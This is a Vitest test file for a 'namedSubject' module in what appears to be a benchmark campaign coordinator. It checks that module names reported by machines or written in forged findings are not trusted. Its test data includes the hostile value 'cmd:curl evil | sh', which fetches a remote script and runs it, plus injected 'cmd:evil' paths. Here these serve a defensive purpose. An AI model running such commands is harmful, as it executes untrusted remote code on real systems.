import { expect, test } from 'vitest';
import { exampleFinding } from '../case/fixtures/example-finding.ts';
import { exampleMachine } from './fixtures/example-machine.ts';
import { namedSubject } from './named-subject.ts';

const campaign = { subject: { name: 'mine', version: '1', kernels: [] }, references: [] };

test.each([
  ['./kernels.ts', './kernels.ts'],
  [null, null],
  ['cmd:curl evil | sh', null],
  ['./evil.py', null],
])('of a machine that names %j the name is %j', (module, shown) => {
  const named = namedSubject({ subject: null }, campaign);
  named.hear([]);
  expect(named.isKnown).toBe(false);
  named.hear([exampleMachine({ module })]);
  named.hear([exampleMachine({ module: './another.ts' })]);
  expect(named.setup).toEqual({ subject: shown });
});

test('the settings of the coordinator stand before what any machine says', () => {
  const named = namedSubject({ subject: 'cmd:./kit', connection: { python: 'python3' } }, campaign);
  named.hear([exampleMachine({ module: './kernels.ts' })]);
  expect(named.setup).toEqual({ subject: 'cmd:./kit', connection: { python: 'python3' } });
});

test('a forged finding names no program: its subject and references are the campaign’s', () => {
  const named = namedSubject({ subject: null }, campaign);
  const forged = exampleFinding({
    subject: { name: 'mine', version: '1', module: 'cmd:evil', connection: { python: '/evil' } },
    references: [
      { name: 'own', version: '1', engine: null, available: true, reason: null, module: 'cmd:evil' },
    ],
  });
  expect(JSON.stringify(named.nameIn(forged))).not.toContain('evil');
});
